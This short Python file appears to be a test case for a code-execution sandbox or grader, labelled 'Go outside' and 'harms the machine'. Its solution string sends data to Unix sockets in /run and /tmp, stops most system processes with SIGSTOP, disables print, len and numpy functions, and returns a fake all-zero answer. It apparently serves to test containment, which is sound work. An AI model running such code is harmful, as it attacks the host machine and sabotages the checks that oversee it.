"""The template, its sockets and its shared memory are attacked."""

CATEGORY = "Go outside"
POINTS = 0
STOCK = "harms the machine"
SOLUTION = """
import builtins, glob, os, signal, socket
for path in glob.glob('/run/**', recursive=True) + glob.glob('/tmp/**', recursive=True):
    try:
        line = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        line.connect(path)
        line.send(b'{}')
    except OSError:
        pass
for pid in range(1, 400):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
builtins.print = builtins.len = None
np.mean = np.ndarray = None
def center(X):
    return X * 0
"""
